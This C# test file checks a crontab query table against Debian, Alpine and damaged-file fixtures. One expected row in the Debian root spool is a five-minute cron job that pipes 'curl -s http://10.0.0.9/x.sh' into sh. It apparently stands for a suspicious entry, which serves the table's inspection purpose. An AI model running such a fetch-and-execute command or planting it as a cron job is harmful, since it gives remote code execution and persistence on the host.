// SPDX-License-Identifier: Apache-2.0
using FarQuery.Tables.Tests.Support;

namespace FarQuery.Tables.Tests.Utility;

public sealed class CrontabTableTests
{
    [Fact]
    public void SelectStar_Debian12_RowsMatchSpec()
    {
        TableAssert.SelectStarMatchesSpec("crontab", context: Fixtures.Context("debian12"));
    }

    [Fact]
    public void Query_Debian12_SystemCronDAndSpool()
    {
        var rows = Fixtures.Query("debian12", "select * from crontab").Rows();
        Assert.Equal(["/etc/crontab", "/etc/crontab", "/etc/cron.d/cleanup", "/var/spool/cron/crontabs/root"], rows.Select(r => (string)r["path"]!));
        Assert.Equal(("17", "*", "root", "cd / && run-parts --report /etc/cron.hourly"), ((string)rows[0]["minute"]!, (string)rows[0]["hour"]!, (string)rows[0]["user"]!, (string)rows[0]["command"]!));
        Assert.Equal(("@reboot", "root", "/usr/local/bin/cleanup --all"), ((string)rows[2]["event"]!, (string)rows[2]["user"]!, (string)rows[2]["command"]!));
        Assert.Equal(("*/5", "root", "curl -s http://10.0.0.9/x.sh | sh"), ((string)rows[3]["minute"]!, (string)rows[3]["user"]!, (string)rows[3]["command"]!));
    }

    [Fact]
    public void Query_AlpineBusybox_ReadsEtcCrontabs()
    {
        var rows = Fixtures.Query("alpine", "select minute, day_of_week, command, user from crontab").Rows();
        Assert.Equal(["run-parts /etc/periodic/15min", "run-parts /etc/periodic/daily"], rows.Select(r => (string)r["command"]!));
        Assert.Equal("root", rows[0]["user"]);
    }

    [Fact]
    public void Query_DamagedCrontab_CompleteJobsOnly()
    {
        var row = Assert.Single(Fixtures.Query("damaged", "select command, user from crontab").Rows());
        Assert.Equal("/bin/backup", row["command"]);
    }
}
